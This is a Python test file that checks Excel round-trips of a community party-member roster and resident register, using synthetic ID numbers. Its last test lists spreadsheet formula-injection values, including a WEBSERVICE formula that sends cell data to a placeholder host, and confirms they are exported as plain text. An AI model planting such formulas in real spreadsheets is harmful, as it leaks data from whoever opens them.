"""Exports with full numbers import back: the demo of each register, plus the people
the demo may lack (Hong Kong, Macau and Taiwan residents, a foreigner with the 2023
permanent residence card, an in-service member whose membership stays with their
work unit, a mobile member, a member with a passport), through a real .xlsx file
and a real database: zero problems, zero changes.
"""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from gridoffice import paths
from gridoffice.domain import identity
from gridoffice.domain.codes import RELATION_HEAD
from gridoffice.services import demo, office
from gridoffice.services import residents_excel as rex
from gridoffice.services import roster_excel as rx
from gridoffice.services.households import HouseholdService, ResidentDraft, ResidentQuery
from gridoffice.services.roster import MemberDraft, MemberQuery, RosterService
from gridoffice.store.database import Database
from gridoffice.store.digest import digests
from gridoffice.store.files import open_database
from tests import sql
from tests.conftest import TODAY


def with_check(first17: str) -> str:
    return first17 + identity.check_character(first17)


# Numbers that say what they are: 81 Hong Kong, 82 Macau, 83 Taiwan (居住证), 9 the
# foreigners' permanent residence card of 2023.
HONG_KONG = with_check("81000019850412002")
MACAU = with_check("82000019900705003")
TAIWAN = with_check("83000019781130004")
FOREIGNER = with_check("93315619880214005")
OTHERS = [("欧阳家豪", HONG_KONG, "hmt_permit"), ("司徒美玲", MACAU, "hmt_permit"),
          ("上官志明", TAIWAN, "hmt_permit"), ("JOHN SMITH", FOREIGNER, "foreigner")]


def snapshot(db: Database) -> dict[str, str]:
    conn = sql.connect(db.path)
    try:
        return digests(conn)
    finally:
        conn.close()


def add_people(db: Database) -> None:
    """Residents and members the demo may not have."""
    households = HouseholdService(db, operator="王芳", today=TODAY)
    grid = households.list_grids()[0]
    building = households.buildings(grid.id)[0]
    house = households.add_house(building.id, "9", "901")
    drafts = [ResidentDraft(name=name, relation=RELATION_HEAD if index == 0 else "99",
                            id_number=number, id_type=kind, population_type="overseas",
                            mobile="13700000001" if index == 0 else "")
              for index, (name, number, kind) in enumerate(OTHERS)]
    households.create_household(house, drafts)
    roster = RosterService(db, operator="王芳", today=TODAY)
    org_id = next(r.org_id for r in roster.list_members() if r.org_id)
    common = dict(sex="1", ethnicity="01", education="20", status="full",
                  join_date=dt.date(2005, 7, 1), full_date=dt.date(2006, 7, 1),
                  mobile="13912340000")
    roster.add(MemberDraft(name="欧阳明", id_number=with_check("11010519800101007"),
                           category="in_service", org_id=None,
                           unit_party_org="中共东城区卫生健康委员会机关委员会",
                           work_unit="东城区卫生健康委员会", job="科员", **common))
    roster.add(MemberDraft(name="司马青", id_number=with_check("11010519810202009"),
                           category="mobile", org_id=org_id, away_destination="广东省深圳市",
                           away_since=dt.date(2024, 3, 1), **common))
    roster.add(MemberDraft(name="Anna Lee", id_type="passport", id_number="E12345678",
                           birth_date=dt.date(1982, 5, 6), category="direct", org_id=org_id,
                           **common))


@pytest.fixture(scope="module")
def demo_folder(tmp_path_factory) -> Path:
    """A community folder with the demo data and the extra people (made once)."""
    root = tmp_path_factory.mktemp("demo") / "data"
    opened = open_database(paths.resolve(root))
    office.save_profile(opened.path, office.OfficeProfile("幸福里社区", "幸福街道",
                                                          "community", "王芳"))
    database = Database(opened.path)
    try:
        demo.fill(database, seed=1, today=TODAY)
        add_people(database)
    finally:
        database.close()
    return root


@pytest.fixture
def demo_db(demo_folder, tmp_path):
    folder = tmp_path / "demo"
    shutil.copytree(demo_folder, folder)
    opened = open_database(paths.resolve(folder))
    database = Database(opened.path)
    yield database
    database.close()


def export_roster(db: Database, path: Path, query: MemberQuery | None = None) -> Path:
    rows = RosterService(db, today=TODAY).list_members(query or MemberQuery(), reveal=True)
    rx.export_members(rows, path, reveal=True, today=TODAY)
    return path


def roster_plan(db: Database, path: Path) -> rx.ImportPlan:
    mapping = rx.load_mapping(db, path, "党员花名册")
    return rx.dry_run(db, path, "党员花名册", mapping, today=TODAY)


def export_residents(db: Database, path: Path) -> Path:
    service = HouseholdService(db, today=TODAY)
    rex.export_residents(service.residents(ResidentQuery(), reveal=True), path, reveal=True,
                         grid_names={g.id: g.name for g in service.list_grids()})
    return path


def residents_plan(db: Database, path: Path) -> rex.ResidentImportPlan:
    return rex.dry_run(db, path, "实有人口", rex.load_mapping(path, "实有人口"), today=TODAY)


def sheet_rows(path: Path) -> list[dict[str, object]]:
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


# --- the roster ----------------------------------------------------------------------
def test_roster_export_with_full_numbers_imports_back_unchanged(demo_db, tmp_path):
    path = export_roster(demo_db, tmp_path / "roster.xlsx")
    exported = sheet_rows(path)
    rows = {r["姓名"]: r for r in exported}
    assert rows["欧阳明"]["所在党组织"] == "中共东城区卫生健康委员会机关委员会"
    assert rows["司马青"]["流动去向"] == "广东省深圳市"
    assert rows["Anna Lee"]["证件类型"] == "护照"
    assert rows["Anna Lee"]["公民身份号码"] == "E12345678"
    in_service = [r for r in exported if r["党员类别"] == "在职党员"]
    assert in_service and all(r["所在党组织"] for r in in_service)
    before = snapshot(demo_db)
    plan = roster_plan(demo_db, path)
    assert plan.problems == []
    assert (plan.new, plan.updates, plan.unchanged) == ([], [], len(exported))
    result = rx.apply(demo_db, plan, operator="王芳", today=TODAY)
    assert (result.added, result.updated) == (0, 0)
    assert snapshot(demo_db) == before


def test_roster_rows_import_into_another_office(demo_db, db, tmp_path):
    """Rows that need no organisation of this office (in-service members, whose
    membership is with their unit) are added elsewhere as they were."""
    path = export_roster(demo_db, tmp_path / "in_service.xlsx",
                         MemberQuery(category="in_service"))
    plan = roster_plan(db, path)
    assert plan.problems == []
    assert len(plan.new) == len(sheet_rows(path)) and plan.updates == []
    rx.apply(db, plan, operator="王芳", today=TODAY)
    again = export_roster(db, tmp_path / "again.xlsx", MemberQuery(category="in_service"))
    assert sheet_rows(again) == sheet_rows(path)


def test_masked_roster_export_is_refused(demo_db, tmp_path):
    rows = RosterService(demo_db, today=TODAY).list_members()
    path = tmp_path / "masked.xlsx"
    rx.export_members(rows, path, today=TODAY)
    before = snapshot(demo_db)
    plan = roster_plan(demo_db, path)
    masked = [p for p in plan.problems if p.column == "公民身份号码"]
    assert len(masked) == len(rows) and "is masked" in masked[0].message
    assert snapshot(demo_db) == before


# --- the residents -------------------------------------------------------------------
def test_residents_export_with_full_numbers_imports_back_unchanged(demo_db, tmp_path):
    path = export_residents(demo_db, tmp_path / "residents.xlsx")
    rows = {r["姓名"]: r for r in sheet_rows(path)}
    assert rows["欧阳家豪"]["证件类型"] == "港澳台居民居住证"
    assert rows["JOHN SMITH"]["证件类型"] == "外国人永久居留身份证"
    before = snapshot(demo_db)
    plan = residents_plan(demo_db, path)
    assert plan.problems == []
    assert (plan.new, plan.updates, plan.unchanged) == ([], [], plan.rows)
    result = rex.apply(demo_db, plan, operator="王芳", today=TODAY)
    assert (result.added, result.updated, result.households) == (0, 0, 0)
    after = snapshot(demo_db)
    assert {k: v for k, v in after.items() if k != "audit_log"} == {
        k: v for k, v in before.items() if k != "audit_log"}


def test_id_type_is_read_from_the_number_without_a_type_column(demo_db, tmp_path):
    """A sheet without 证件类型 (or with the cell empty): 81/82/83 and 9 say it."""
    exported = sheet_rows(export_residents(demo_db, tmp_path / "residents.xlsx"))
    mine = [r for r in exported if r["姓名"] in {name for name, _n, _k in OTHERS}]
    headers = [h for h in rex.EXPORT_HEADERS if h != "证件类型"]
    for drop_column in (True, False):
        workbook = Workbook()
        sheet = workbook.active
        sheet.title = "实有人口"
        sheet.append(headers if drop_column else list(rex.EXPORT_HEADERS))
        for row in mine:
            values = dict(row, 证件类型=None)
            sheet.append([values[h] for h in (headers if drop_column
                                               else rex.EXPORT_HEADERS)])
        path = tmp_path / f"no_type_{drop_column}.xlsx"
        workbook.save(path)
        plan = residents_plan(demo_db, path)
        assert plan.problems == [], [p.message for p in plan.problems]
        assert plan.unchanged == len(OTHERS)
    # and into an office that does not know them: stored with the type the number says
    target = HouseholdService(demo_db, today=TODAY)
    for name, _number, _kind in reversed(OTHERS):  # the head last
        row = next(r for r in target.residents(ResidentQuery(text=name)))
        target.move_out(row.id, TODAY, "test")
    plan = residents_plan(demo_db, path)
    assert plan.problems == [] and len(plan.new) == len(OTHERS)
    rex.apply(demo_db, plan, operator="王芳", today=TODAY)
    stored = {r.name: r.id_type for r in target.residents(ResidentQuery(text=""))
              if r.name in {name for name, _n, _k in OTHERS}}
    assert stored == {name: kind for name, _n, kind in OTHERS}


def test_masked_residents_export_is_refused(demo_db, tmp_path):
    service = HouseholdService(demo_db, today=TODAY)
    path = tmp_path / "masked.xlsx"
    rex.export_residents(service.residents(ResidentQuery()), path)
    plan = residents_plan(demo_db, path)
    assert plan.problems and all("is masked" in p.message for p in plan.problems
                                 if p.column == "身份证号")
    assert any(p.column == "身份证号" for p in plan.problems)


# --- the rule -------------------------------------------------------------------------
@given(st.sampled_from(["81", "82", "83", "9", "11", "31", "44", "65"]),
       st.text("0123456789", min_size=16, max_size=16))
def test_id_type_of_follows_the_start_of_the_number(start, digits):
    first17 = (start + digits)[:17]
    number = first17 + identity.check_character(first17)
    expected = {"81": "hmt_permit", "82": "hmt_permit", "83": "hmt_permit",
                "9": "foreigner"}.get(start, "resident")
    assert identity.id_type_of(number) == expected
    assert identity.id_type_of(" " + number.lower() + " ") == expected
    assert identity.id_type_of(number[:17]) is None  # not a whole number
    assert identity.id_type_of("E" + number[1:9]) is None  # a passport says nothing


def test_id_type_of_an_old_fifteen_digit_number_is_the_resident_card():
    assert identity.id_type_of("110105580312021") == "resident"
    assert identity.id_type_of("") is None


# --- dates typed in text cells --------------------------------------------------------
def test_both_imports_read_dates_typed_the_office_way(demo_db, tmp_path):
    """2026/11/01, 2026.11.1 and 2026年11月1日 in text cells (already read by both
    imports through identity.parse_loose_date, which also keeps month precision)."""
    number = with_check("11010519800101023")
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "党员花名册"
    sheet.append(["姓名", "公民身份号码", "出生年月", "入党时间", "转正时间", "党员类别",
                  "所在党组织"])
    sheet.append(["夏明", number, "1980年1月1日", "2005/07/01", "2006.7.1", "在职党员",
                  "中共东城区卫生健康委员会机关委员会"])
    for cell in sheet[2]:
        cell.number_format = "@"
    path = tmp_path / "dates.xlsx"
    workbook.save(path)
    plan = roster_plan(demo_db, path)
    assert plan.problems == []
    [new] = plan.new
    values = new.as_dict()
    assert (values["birth_date"], values["join_date"], values["full_date"]) == (
        dt.date(1980, 1, 1), dt.date(2005, 7, 1), dt.date(2006, 7, 1))

    exported = [r for r in sheet_rows(export_residents(demo_db, tmp_path / "r.xlsx"))
                if r["姓名"] == "欧阳家豪"]
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "实有人口"
    headers = [*rex.EXPORT_HEADERS, "迁入日期"]
    sheet.append(headers)
    row = dict(exported[0], 出生日期="1985年4月12日", 迁入日期="2026/11/01")
    sheet.append([row[h] for h in headers])
    path = tmp_path / "resident_dates.xlsx"
    workbook.save(path)
    plan = residents_plan(demo_db, path)
    assert plan.problems == []
    [update] = plan.updates
    assert update.changes == {"move_in_date": (None, dt.date(2026, 11, 1))}


# --- text that looks like a formula ---------------------------------------------------
HOSTILE = ['=WEBSERVICE("http://x/"&R5)', "+1", "-2", "@SUM(A1)", "=1+1"]


def sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(demo_db,
                                                                             tmp_path):
    roster = RosterService(demo_db, operator="王芳", today=TODAY)
    org_id = next(r.org_id for r in roster.list_members() if r.org_id)
    common = dict(sex="1", ethnicity="01", education="20", status="full",
                  join_date=dt.date(2005, 7, 1), full_date=dt.date(2006, 7, 1),
                  mobile="13912340000", category="direct", org_id=org_id)
    for index, value in enumerate(HOSTILE):
        roster.add(MemberDraft(name="测试" + "甲乙丙丁戊"[index],
                               id_number=with_check(f"11010519800101{index}01"),
                               note=value, native_place=value, party_post=value,
                               work_unit=value, **common))
    path = export_roster(demo_db, tmp_path / "hostile.xlsx")
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    assert "WEBSERVICE" in xml
    exported = {r["姓名"]: r for r in sheet_rows(path)}
    for index, value in enumerate(HOSTILE):
        assert exported["测试" + "甲乙丙丁戊"[index]]["备注"] == value
        assert exported["测试" + "甲乙丙丁戊"[index]]["籍贯"] == value
    # what the problem list writes back is text too
    rx.export_problems(tmp_path / "problems.xlsx", [(2, "备注", HOSTILE[0])])
    assert "<f>" not in sheet_xml(tmp_path / "problems.xlsx")
    before = snapshot(demo_db)
    plan = roster_plan(demo_db, path)
    assert plan.problems == []
    assert (plan.new, plan.updates) == ([], [])
    rx.apply(demo_db, plan, operator="王芳", today=TODAY)
    assert snapshot(demo_db) == before
    stored = {r.name: r for r in roster.list_members(MemberQuery(), reveal=True)}
    assert [stored["测试" + "甲乙丙丁戊"[i]].note for i in range(len(HOSTILE))] == HOSTILE

